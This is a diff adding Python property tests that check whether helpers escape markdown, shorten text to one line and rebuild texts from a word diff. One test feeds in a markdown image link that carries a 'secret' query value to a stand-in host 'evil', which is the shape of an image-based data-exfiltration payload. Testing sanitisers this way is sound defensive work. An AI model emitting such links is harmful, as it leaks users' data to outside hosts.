@@ -1,0 +1,33 @@
+"""Claims about neutralising untrusted text."""
+
+from hypothesis import given
+from hypothesis import strategies as st
+
+from core.compare_text import Piece, word_diff
+from core.text import one_line, plain
+
+
+@given(st.text())
+def test_plain_leaves_no_markdown_special_unescaped(text: str) -> None:
+    shown = plain(text)
+    for special in "`*_[]()<>!$:#|~":
+        assert all(shown[i - 1] == "\\" for i, letter in enumerate(shown) if letter == special)
+
+
+def test_plain_hides_no_letter_of_an_image_link() -> None:
+    shown = plain("![x](http://evil/?q=secret)")
+    assert shown.replace("\\", "") == "![x](http://evil/?q=secret)"
+
+
+@given(st.text(), st.integers(min_value=1, max_value=50))
+def test_one_line_is_one_short_line(text: str, limit: int) -> None:
+    shown = one_line(text, limit)
+    assert len(shown) <= limit and "\n" not in shown and "\r" not in shown
+
+
+@given(st.lists(st.sampled_from(["a", "b", "c"])), st.lists(st.sampled_from(["a", "b", "c"])))
+def test_word_diff_gives_back_both_texts(one: list[str], two: list[str]) -> None:
+    pieces = word_diff(" ".join(one), " ".join(two))
+    first = " ".join(text for kind, text in pieces if kind is not Piece.SECOND).split()
+    second = " ".join(text for kind, text in pieces if kind is not Piece.FIRST).split()
+    assert (first, second) == (one, two)
